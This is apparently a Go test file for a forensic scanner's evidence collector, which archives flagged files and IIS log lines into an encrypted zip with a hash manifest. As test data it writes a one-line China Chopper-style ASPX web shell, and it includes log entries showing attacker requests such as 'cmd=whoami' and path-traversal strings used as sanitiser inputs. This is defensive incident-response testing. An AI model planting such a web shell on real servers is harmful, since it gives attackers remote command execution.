package evidence

import (
	"bytes"
	"compress/gzip"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/yeka/zip"

	"exscan/scanner/finding"
)

type source struct {
	path  string
	data  []byte
	mtime time.Time
}

func writeSource(t *testing.T, dir, name string, data []byte) source {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	mt := time.Date(2021, 3, 3, 4, 5, 6, 0, time.UTC)
	if err := os.Chtimes(p, mt, mt); err != nil {
		t.Fatal(err)
	}
	return source{p, data, mt}
}

func (s source) unchanged(t *testing.T) {
	t.Helper()
	b, err := os.ReadFile(s.path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b, s.data) {
		t.Errorf("%s: content changed", s.path)
	}
	info, _ := os.Stat(s.path)
	if !info.ModTime().Equal(s.mtime) {
		t.Errorf("%s: mtime changed: %v", s.path, info.ModTime())
	}
}

var logLines = []string{
	"#Software: Microsoft Internet Information Services 10.0",
	"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status",
	"2021-03-03 02:13:04 10.0.0.5 POST /owa/auth/x.js - 443 - 203.0.113.7 ExchangeServicesClient/0.0.0.0 200",
	"2021-03-03 02:13:09 10.0.0.5 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 200",
	"2021-03-03 02:14:41 10.0.0.5 POST /aspnet_client/system_web/discover.aspx - 443 - 203.0.113.7 <script>\x1b[2J\xff 200",
}

func logFinding(path string, line int, fp string) *finding.Finding {
	return &finding.Finding{Kind: finding.KindLog, Rule: "sigma.test", Severity: finding.High, Path: path, Line: line,
		Fingerprint: fp, Timestamp: "2021-03-03T02:13:04Z",
		Evidence: []finding.Evidence{{Name: "cs-uri-stem", Value: "/owa/auth/x.js"}}}
}

func TestCollectAndVerify(t *testing.T) {
	dir := t.TempDir()
	shell := writeSource(t, dir, "C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx",
		[]byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>`+"\n"))
	odd := writeSource(t, dir, "C/ProgramData/odd\x1b[31m name\u202e.aspx", []byte("odd\x00bytes\xff"))
	plainLog := writeSource(t, dir, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", []byte(strings.Join(logLines, "\r\n")+"\r\n"))
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(strings.Join(logLines, "\n")))
	zw.Close()
	gzLog := writeSource(t, dir, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log.gz", gz.Bytes())

	zipPath := filepath.Join(t.TempDir(), "evidence.zip")
	c, err := Create(zipPath, Meta{Version: "1.2.3", Host: "ir-laptop", ScannedHost: "EXCH01", Command: "scan", Root: dir, ScanTime: time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(shell.data)
	fileF := &finding.Finding{Kind: finding.KindFile, Rule: "yara.china_chopper", Severity: finding.Critical, Path: shell.path,
		HostPath: `C:\inetpub\wwwroot\aspnet_client\system_web\discover.aspx`, Fingerprint: "f1", SHA256: hex.EncodeToString(sum[:])}
	mustAdd(t, c, fileF)
	second := *fileF
	second.Rule, second.Fingerprint = "exscan.file.unexpected-aspnet-page", "f2"
	mustAdd(t, c, &second) // same file: one copy, two findings
	mustAdd(t, c, &finding.Finding{Kind: finding.KindFile, Rule: "r", Path: odd.path, HostPath: `C:\..\..\ProgramData\odd` + "\x1b[31m name\u202e.aspx", Fingerprint: "f3"})
	if err := c.Add(&finding.Finding{Kind: finding.KindFile, Rule: "r", Path: filepath.Join(dir, "gone.aspx"), Fingerprint: "f4"}); err == nil {
		t.Error("missing source: no error")
	}
	// Log findings from several goroutines, as a sink might see them.
	var wg sync.WaitGroup
	for i, l := range []struct {
		path string
		line int
	}{{plainLog.path, 3}, {plainLog.path, 5}, {gzLog.path, 5}, {gzLog.path, 99}} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			mustAdd(t, c, logFinding(l.path, l.line, fmt.Sprintf("l%d", i)))
		}()
	}
	wg.Wait()
	// A raw line the caller already has wins over a re-read.
	if err := c.AddLogLine(logFinding(plainLog.path, 4, "l9"), []byte("caller's raw line\r\n")); err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if err := c.Add(fileF); err == nil {
		t.Error("Add after Close: no error")
	}

	info, err := os.Stat(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	if perm := info.Mode().Perm(); perm != 0o600 {
		t.Errorf("zip permissions %v, want 0600", perm)
	}

	entries := readZip(t, zipPath, Password)
	var man Manifest
	if err := json.Unmarshal(entries["manifest.json"], &man); err != nil {
		t.Fatalf("manifest: %v", err)
	}
	if man.ExscanVersion != "1.2.3" || man.Host != "ir-laptop" || man.ScannedHost != "EXCH01" || man.ScanTime != "2025-01-02T03:04:05Z" || man.Findings != 9 {
		t.Errorf("manifest header: %+v", man)
	}
	if len(man.Entries) != 4 {
		t.Fatalf("manifest has %d entries, want 2 files + 2 logs: %+v", len(man.Entries), man.Entries)
	}
	for _, it := range man.Entries {
		b, ok := entries[it.Entry]
		if !ok {
			t.Errorf("manifest entry %q not in the zip", it.Entry)
			continue
		}
		m, s1, s2 := md5.Sum(b), sha1.Sum(b), sha256.Sum256(b)
		if it.Size != int64(len(b)) || it.MD5 != hex.EncodeToString(m[:]) || it.SHA1 != hex.EncodeToString(s1[:]) || it.SHA256 != hex.EncodeToString(s2[:]) {
			t.Errorf("%s: manifest size/hashes do not match the archived bytes", it.Entry)
		}
		if it.MTime == "" || it.Mode == "" {
			t.Errorf("%s: no mtime or mode", it.Entry)
		}
	}
	for name := range entries {
		checkName(t, name)
	}

	f0 := man.Entries[0]
	if f0.Kind != "file" || f0.Entry != "files/C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx" ||
		!bytes.Equal(entries[f0.Entry], shell.data) || len(f0.Findings) != 2 || f0.MTime != "2021-03-03T04:05:06Z" || len(f0.Notes) != 0 {
		t.Errorf("webshell entry: %+v", f0)
	}
	if f0.CTime == "" || f0.ATime == "" {
		t.Errorf("webshell entry lacks ctime/atime: %+v", f0)
	}
	if f1 := man.Entries[1]; !bytes.Equal(entries[f1.Entry], odd.data) {
		t.Errorf("odd entry %q: content differs", f1.Entry)
	}
	if len(man.NotCollected) != 1 || man.NotCollected[0].Findings[0].Fingerprint != "f4" {
		t.Errorf("not collected: %+v", man.NotCollected)
	}

	byPath := map[string]Item{}
	for _, it := range man.Entries {
		byPath[it.OriginalPath] = it
	}
	pl := string(entries[byPath[plainLog.path].Entry])
	// the header lines in force come first, with their line numbers
	header := "1\t" + logLines[0] + "\n2\t" + logLines[1] + "\n"
	wantPlain := header + "3\t" + logLines[2] + "\n4\tcaller's raw line\n5\t" + logLines[4] + "\n"
	if pl != wantPlain {
		t.Errorf("plain log lines:\n%q\nwant\n%q", pl, wantPlain)
	}
	gl := byPath[gzLog.path]
	wantGz := header + "5\t" + logLines[4] + "\n99\t[fields] cs-uri-stem=/owa/auth/x.js\n"
	if got := string(entries[gl.Entry]); got != wantGz {
		t.Errorf("gz log lines:\n%q\nwant\n%q", got, wantGz)
	}
	if gl.Lines != 2 || len(gl.Notes) != 1 {
		t.Errorf("gz log entry: %+v", gl)
	}

	for _, s := range []source{shell, odd, plainLog, gzLog} {
		s.unchanged(t)
	}
}

func TestEncryptedAndPasswordNeeded(t *testing.T) {
	dir := t.TempDir()
	s := writeSource(t, dir, "a.aspx", []byte("<% eval %>"))
	zipPath := filepath.Join(dir, "e.zip")
	c, err := Create(zipPath, Meta{})
	if err != nil {
		t.Fatal(err)
	}
	mustAdd(t, c, &finding.Finding{Kind: finding.KindFile, Rule: "r", Path: s.path, Fingerprint: "f"})
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(zipPath)
	if bytes.Contains(raw, []byte("<% eval %>")) {
		t.Error("file content readable without the password")
	}
	r, err := zip.OpenReader(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for _, f := range r.File {
		if f.Name == "README.txt" {
			if f.IsEncrypted() {
				t.Error("README.txt is encrypted")
			}
			continue
		}
		if !f.IsEncrypted() {
			t.Errorf("%s is not encrypted", f.Name)
			continue
		}
		f.SetPassword("wrong")
		if rc, err := f.Open(); err == nil {
			_, err = io.ReadAll(rc)
			rc.Close()
			if err == nil {
				t.Errorf("%s opened with a wrong password", f.Name)
			}
		}
	}
}

func TestRefusesOverwrite(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "e.zip")
	os.WriteFile(p, []byte("precious"), 0o644)
	if _, err := Create(p, Meta{}); err == nil || !strings.Contains(err.Error(), "already exists") {
		t.Fatalf("Create over an existing file: %v", err)
	}
	if b, _ := os.ReadFile(p); string(b) != "precious" {
		t.Fatal("existing file changed")
	}
	c, err := Create(p, Meta{Overwrite: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	info, _ := os.Stat(p)
	if info.Mode().Perm() != 0o600 {
		t.Errorf("overwritten zip permissions %v", info.Mode().Perm())
	}
	if e := readZip(t, p, Password); e["manifest.json"] == nil {
		t.Error("no manifest in an empty collection")
	}
}

func TestSkipsTheZipItselfAndLimits(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "e.zip")
	big := writeSource(t, dir, "big.bin", bytes.Repeat([]byte("A"), 100))
	c, err := Create(p, Meta{MaxFileSize: 10})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Add(&finding.Finding{Kind: finding.KindFile, Path: p, Fingerprint: "z"}); err == nil {
		t.Error("collected the zip into itself")
	}
	if err := c.Add(&finding.Finding{Kind: finding.KindFile, Path: big.path, Fingerprint: "b"}); err == nil {
		t.Error("collected a file over the limit")
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	m := c.Manifest()
	if len(m.NotCollected) != 2 || len(m.Entries) != 0 {
		t.Errorf("manifest: %+v", m)
	}
}

func TestSanitise(t *testing.T) {
	cases := map[string]string{
		`C:\inetpub\wwwroot\shell.aspx`:   "C/inetpub/wwwroot/shell.aspx",
		"/mnt/img/C/x.aspx":               "mnt/img/C/x.aspx",
		`\\?\C:\a\..\..\b`:                "_/C/a/__/__/b",
		"../../etc/passwd":                "__/__/etc/passwd",
		"a/./b//c":                        "a/b/c",
		"x\x1b[2J\x00y\xff\u202e.aspx":    "x_[2J_y__.aspx",
		`C:\a\b.aspx. `:                   "C/a/b.aspx_",
		`C:\a\con:stream*?"<>|`:           "C/a/con_stream______",
		"":                                "unnamed",
		"/":                               "unnamed",
		strings.Repeat("d/", 300) + "f":   strings.TrimPrefix(strings.Repeat("/d", 199)+"/f", "/"),
		strings.Repeat("é", 100) + ".txt": strings.Repeat("é", 60),
	}
	for in, want := range cases {
		got := sanitise(in)
		if got != want {
			t.Errorf("sanitise(%q) = %q, want %q", in, got, want)
		}
		checkName(t, got)
	}
}

func mustAdd(t *testing.T, c *Collector, f *finding.Finding) {
	t.Helper()
	if err := c.Add(f); err != nil {
		t.Error(err)
	}
}

// checkName asserts an entry name is relative and inert.
func checkName(t *testing.T, name string) {
	t.Helper()
	if strings.HasPrefix(name, "/") || strings.Contains(name, `\`) || strings.Contains(name, ":") {
		t.Errorf("entry name %q is not a plain relative path", name)
	}
	for _, part := range strings.Split(name, "/") {
		if part == ".." || part == "." || part == "" {
			t.Errorf("entry name %q has a %q part", name, part)
		}
	}
	for _, r := range name {
		if unicode.IsControl(r) || r == '\u202e' || r == unicode.ReplacementChar {
			t.Errorf("entry name %q holds %U", name, r)
		}
	}
}

func readZip(t *testing.T, p, password string) map[string][]byte {
	t.Helper()
	r, err := zip.OpenReader(p)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	out := map[string][]byte{}
	for _, f := range r.File {
		if f.IsEncrypted() {
			f.SetPassword(password)
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		if _, dup := out[f.Name]; dup {
			t.Errorf("duplicate entry %s", f.Name)
		}
		out[f.Name] = b
	}
	return out
}

// A log whose header changes in the middle (IIS writes a new #Fields block
// after a restart): each copied line comes after the header in force at
// it, and a header is written once for the lines under it.
func TestLogLinesKeepTheirHeader(t *testing.T) {
	dir := t.TempDir()
	lines := []string{
		"#Software: Microsoft Internet Information Services 10.0",         // 1
		"#Fields: date time cs-method cs-uri-stem sc-status",              // 2
		"2021-03-03 02:13:04 POST /owa/auth/x.js 200",                     // 3
		"2021-03-03 02:13:05 POST /owa/auth/y.js 200",                     // 4
		"#Software: Microsoft Internet Information Services 10.0",         // 5
		"#Fields: date time cs-method cs-uri-stem cs-uri-query sc-status", // 6
		"2021-03-03 03:00:00 GET /owa/auth/z.aspx cmd=whoami 200",         // 7
	}
	log := writeSource(t, dir, "u_ex210303.log", []byte(strings.Join(lines, "\n")+"\n"))
	zipPath := filepath.Join(t.TempDir(), "e.zip")
	c, err := Create(zipPath, Meta{})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []int{3, 4, 7} {
		mustAdd(t, c, logFinding(log.path, n, fmt.Sprint("h", n)))
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	var got string
	for name, b := range readZip(t, zipPath, Password) {
		if strings.HasSuffix(name, ".lines.txt") {
			got = string(b)
		}
	}
	want := ""
	for _, n := range []int{1, 2, 3, 4, 5, 6, 7} {
		want += fmt.Sprintf("%d\t%s\n", n, lines[n-1])
	}
	if got != want {
		t.Errorf("log lines:\n%s\nwant\n%s", got, want)
	}
}
